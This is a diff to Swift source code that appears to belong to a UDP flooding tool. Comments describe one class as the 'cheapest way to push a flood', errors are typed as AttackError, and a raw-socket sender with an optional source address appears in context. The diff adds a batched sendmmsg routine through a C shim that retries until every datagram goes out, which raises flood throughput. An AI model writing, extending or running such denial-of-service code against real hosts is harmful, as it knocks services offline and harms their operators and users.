@@ -1,3 +1,4 @@
+import CShim
 import Glibc
 
 /// An IPv4 address and port (host byte order).
@@ -186,8 +187,8 @@ final class RawSender {
 /// cheapest way to push a flood.
 final class PlainSender {
     let fd: Int32
-    private(set) var sent = 0
-    private(set) var refused = 0
+    fileprivate(set) var sent = 0
+    fileprivate(set) var refused = 0
 
     init(to destination: Endpoint, from source: Endpoint? = nil) throws(AttackError) {
         let s = socket(AF_INET, Int32(SOCK_DGRAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
@@ -220,6 +221,29 @@ final class PlainSender {
             if errno == EINTR || errno == ECONNREFUSED { continue }
             if errno == ENOBUFS || errno == EAGAIN { sleepSeconds(0.0002); continue }
             refused += 1
+            return
+        }
+    }
+}
+
+extension PlainSender {
+    /// Datagrams `first ..< first + n` of a pool (datagram i is `lengths[i]`
+    /// bytes at `base + i * slot`) in sendmmsg calls of up to 64; waits
+    /// briefly whenever the socket buffer is full, so every one is sent.
+    func sendBatch(_ base: UnsafeRawPointer, slot: Int, first: Int, count n: Int,
+                   lengths: UnsafePointer<UInt32>, to destination: Endpoint) {
+        var sa = destination.sockaddr
+        var done = 0
+        while done < n {
+            let k = first + done
+            let r = withUnsafePointer(to: &sa) {
+                squtun_send_batch(fd, base + k * slot, slot, UInt32(min(n - done, Int(SQUTUN_BATCH_MAX))),
+                                  lengths + k, $0, UInt32(MemoryLayout<sockaddr_in>.size))
+            }
+            if r > 0 { done += Int(r); sent += Int(r); continue }
+            if r < 0 && (errno == EINTR || errno == ECONNREFUSED) { continue }
+            if r == 0 || errno == ENOBUFS || errno == EAGAIN { sleepSeconds(0.0002); continue }
+            refused += n - done
             return
         }
     }
